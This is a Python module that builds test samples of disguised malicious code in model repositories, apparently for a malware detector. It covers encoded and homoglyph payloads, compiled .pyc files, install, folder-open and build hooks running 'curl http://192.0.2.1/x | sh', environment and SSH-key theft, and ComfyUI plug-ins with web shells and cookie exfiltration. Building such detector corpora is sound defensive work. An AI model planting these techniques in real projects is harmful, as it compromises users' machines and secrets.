# ruff: noqa: E501, UP031 - tables of samples, one to a line
"""Programs that ride with models in odd dress: hidden, compiled, as installations, as plug-ins.

Written without knowledge of the detector, and not run.
"""

import base64
import json
import marshal
import struct
from collections.abc import Iterator
from random import Random

from corpus.corpus_samples import Kind, Sample, stored_zip
from corpus.second_look.second_builders import CODE, COMMAND, EXPRESSION

__all__ = ["KINDS"]

_BODIES = (
    "# coding: unicode_escape\n# model\\u000aimport os; os.system('touch acted')\n", "# -*- coding: rot13 -*-\nvzcbeg bf; bf.flfgrz('gbhpu npgrq')\n", "# coding: utf-7\n+AGk-mport os; os.system('touch acted')\n", "\U0001d4ee\U0001d4fd = 1\n\U0001d4ee\U0001d4fc\u212f\u1d9c = None\n\uff45\uff58\uff45\uff43(\"open('acted', 'w')\")\n",
    "import builtins\nbuiltins.__dict__['ev' + 'al'](\"__import__('os').system('touch acted')\")\n", "import sys\nsys.modules['o' + 's'].__dict__['sys' + 'tem']('touch acted')\n", "import ctypes\nctypes.CDLL(None).system(b'touch acted')\n", "class Config(type('X', (), {'__init_subclass__': lambda **k: __import__('os').system('touch acted')})):\n    pass\n",
    "def forward(x, _=__import__('os').system('touch acted')):\n    return x\n", "@__import__('os').system\n@lambda f: 'touch acted'\ndef forward(x):\n    return x\n", "from os import system as relu\nrelu('touch acted')\n", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'] or 0\nimport subprocess as s\n[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['touch', 'acted'])\n",
    "import importlib\nimportlib.import_module('o' + 's').system('touch acted')\n", "x = 1" + " " * 400 + ";import os;os.system('touch acted')\n", "exec(bytes.fromhex('%s'))\n" % CODE.encode().hex(), "exec(''.join(map(chr, %s)))\n" % list(CODE.encode()), "import codecs\nexec(codecs.decode(%r, 'rot13'))\n" % "bcra('npgrq', 'j')", "import atexit, os\natexit.register(os.system, 'touch acted')\n",
    "import threading, os\nthreading.Thread(target=os.system, args=('touch acted',)).start()\n", "import numpy as np\nnp.testing.assert_raises(OSError, __import__('os').system, 'touch acted')\n", "import types, marshal\ntypes.FunctionType(marshal.loads(%r), {})()\n" % b"\xe3\0", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('true\\n')\n", "import os\nfor n in os.environ:\n    if 'KEY' in n:\n        __import__('urllib.request').request.urlopen('http://192.0.2.1/' + os.environ[n])\n", "import pathlib, shutil\nshutil.copy(pathlib.Path.home() / '.ssh' / 'id_rsa', 'x')\n", "from pip._internal import main\nmain(['install', 'evil'])\n",
)  # fmt: skip


def hidden_programs(rng: Random) -> Iterator[Sample]:
    """Code of models that hides what it does: encodings of the source, letters that are folded, decorators, defaults."""
    honest = '"""The model."""\nfrom torch import nn\n\n\nclass Model(nn.Module):\n    def forward(self, x):\n        return x\n\n\n'
    for body in _BODIES:
        first = body.startswith("# ")
        text = body + (honest if not first else "") if first or rng.random() < 0.5 else honest + body
        yield Sample(
            name=rng.choice(("modeling_custom.py", "configuration_x.py", "handler.py", "pipeline.py")),
            data=text.encode(),
        )


def compiled_modules(rng: Random) -> Iterator[Sample]:
    """Byte code in the place of a source, or beside one that it is never compared with."""
    for number in range(16):
        source = (
            rng.choice(
                (
                    EXPRESSION,
                    CODE,
                    "import subprocess; subprocess.call(['touch', 'acted'])",
                    "exec(\"open('acted', 'w')\")",
                )
            )
            + f"\nx = {number}\n"
        )
        code = marshal.dumps(compile(source, "modeling.py", "exec"), 4)
        name = rng.choice(("modeling_x.pyc", "__init__.pyc", "__pycache__/modeling_x.cpython-311.pyc"))
        flags = 1 if "__pycache__" in name else 0  # never compared with the source
        pyc = b"\xa7\r\r\n" + struct.pack("<I", flags) + bytes(8) + code
        yield (
            Sample(name=name.rpartition("/")[2], data=pyc)
            if number % 2
            else Sample(name="code.zip", data=stored_zip({f"code/{name}": pyc, "config.json": b"{}"}))
        )


def installs(rng: Random) -> Iterator[Sample]:
    """Files that are acted on when the folder of a model is installed, opened or built."""
    task = json.dumps(
        {
            "version": "2.0.0",
            "tasks": [
                {"label": "x", "type": "shell", "command": COMMAND, "runOptions": {"runOn": "folderOpen"}}
            ],
        }
    )
    files = {
        "requirements.txt": ("--index-url http://192.0.2.1/simple\ntorch\n", "torch\ngit+https://192.0.2.1/evil/repo\n", "-e git+ssh://git@192.0.2.1/x.git#egg=x\n", "--extra-index-url http://192.0.2.1/\n--trusted-host 192.0.2.1\nprivate-pkg\n", "x @ http://192.0.2.1/x.whl\n", "--find-links http://192.0.2.1/\nx\n"),
        "setup.py": (f"from setuptools import setup\n{EXPRESSION}\nsetup(name='x')\n", "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\n\nclass I(install):\n    def run(self):\n        os.system('touch acted')\n\n\nsetup(name='x', cmdclass={'install': I})\n"),
        "conda.yaml": ("dependencies:\n- python\n- pip:\n  - --index-url=http://192.0.2.1/simple\n  - x\n",), "MLproject": ("name: x\nentry_points:\n  main:\n    command: \"curl http://192.0.2.1/x | sh\"\n",), "sitecustomize.py": (EXPRESSION + "\n",), "conftest.py": (EXPRESSION + "\n",), "tasks.json": (task,), "devcontainer.json": (json.dumps({"image": "x", "postCreateCommand": "curl http://192.0.2.1/x | sh"}),), "package.json": (json.dumps({"name": "x", "scripts": {"postinstall": "curl http://192.0.2.1/x | sh"}}),), "Makefile": ("all:\n\tcurl http://192.0.2.1/x | sh\n",), ".envrc": ("curl http://192.0.2.1/x | sh\n",), "Dockerfile": ("FROM python\nRUN curl http://192.0.2.1/x | sh\n",), "install.sh": ("#!/bin/sh\ncurl http://192.0.2.1/x | sh\n",), "prestartup_script.py": (EXPRESSION + "\n",),
    }  # fmt: skip
    for name, texts in files.items():
        for text in texts:
            yield Sample(name=name, data=text.encode())


def comfy_plugins(rng: Random) -> Iterator[Sample]:
    """ComfyUI: nodes that act as they are imported or run, front ends that send, packed and plain."""
    node = "NODE_CLASS_MAPPINGS = {'Evil': Evil}\n"
    bodies = (
        f"{EXPRESSION}\n\n\nclass Evil:\n    pass\n\n\n", "class Evil:\n    FUNCTION = 'run'\n\n    def run(self, code):\n        exec(code)\n        return ()\n\n\n", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'http://192.0.2.1/x.whl'])\n\n\nclass Evil:\n    pass\n\n\n", "import base64\n\n\nclass Evil:\n    def run(self):\n        eval(base64.b64decode('%s'))\n\n\n" % base64.b64encode(EXPRESSION.encode()).decode(),
        "import requests, os\n\n\nclass Evil:\n    def run(self):\n        requests.post('http://192.0.2.1/', json=dict(os.environ))\n\n\n", "import server\n\n\n@server.PromptServer.instance.routes.get('/x')\nasync def x(request):\n    import os\n    return os.popen(request.query['c']).read()\n\n\nclass Evil:\n    pass\n\n\n",
    )  # fmt: skip
    scripts = (
        b"import { app } from '../../scripts/app.js';\napp.registerExtension({name: 'x', setup() { fetch('http://192.0.2.1/?' + document.cookie) }});\n", b"import { api } from '../../scripts/api.js';\neval(atob('YWxlcnQoMSk='));\n", b"const s = document.createElement('script'); s.src = 'http://192.0.2.1/x.js'; document.head.appendChild(s);\n",
    )  # fmt: skip
    for body in bodies:
        yield Sample(name="nodes.py", data=(body + node).encode())
        yield Sample(
            name="custom_nodes.zip",
            data=stored_zip({"evil/__init__.py": (body + node).encode(), "evil/README.md": b"# Nodes\n"}),
        )
    for script in scripts:
        yield Sample(name=rng.choice(("extension.js", "widget.js")), data=script)
        yield Sample(
            name="plugin.zip",
            data=stored_zip(
                {
                    "evil/__init__.py": b"WEB_DIRECTORY = './js'\nNODE_CLASS_MAPPINGS = {}\n",
                    "evil/js/x.js": script,
                }
            ),
        )


KINDS: dict[str, Kind] = {
    each.__name__: each for each in (hidden_programs, compiled_modules, installs, comfy_plugins)
}
